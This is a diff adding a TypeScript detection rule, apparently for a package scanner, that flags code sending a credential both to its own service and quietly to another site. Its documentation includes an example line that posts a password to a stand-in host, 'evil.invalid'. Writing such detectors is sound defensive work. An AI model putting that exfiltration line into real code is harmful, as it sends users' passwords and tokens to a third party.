@@ -1,0 +1,26 @@
+import { siteOf } from '../facts/site-of.js';
+import type { PairCombination } from './pair-combination.js';
+
+export const credentialSentTwice: PairCombination = {
+  doc: {
+    id: 'credential-sent-twice',
+    title: 'Sends a password, key or token to its service, and to somebody else',
+    why: 'A client hands a credential to the service it is for and looks at the answer. A second place that is told too, and whose answer nobody looks at, collects it.',
+    remedy: 'Do not use the package; change the passwords and tokens it was given.',
+    example:
+      's.post(SERVICE + "/login", data=password)\nrequests.get("https://evil.invalid", params=password)',
+    technique: 'T1056',
+  },
+  first: ({ behaviour, labels, isDropped }) =>
+    behaviour === 'contacts' && labels.has('credential') && isDropped !== true,
+  second: ({ behaviour, labels, host, isDropped }) =>
+    behaviour === 'contacts' && labels.has('credential') && host !== undefined && isDropped === true,
+  belong: (first, second) => first.host !== undefined && siteOf(first.host) !== siteOf(second.host ?? ''),
+  // One service may take the tokens of another, but says whether it did; no service needs a password of another.
+  severity: (second, first) =>
+    second.isQuiet === true || (first.labels.has('password') && second.labels.has('password'))
+      ? 'CRITICAL'
+      : 'HIGH',
+  message: (first, { name, host }) =>
+    `${name} tells ${host ?? 'somebody'} the credential that ${first.name} sends to ${first.host ?? 'its service'}`,
+};
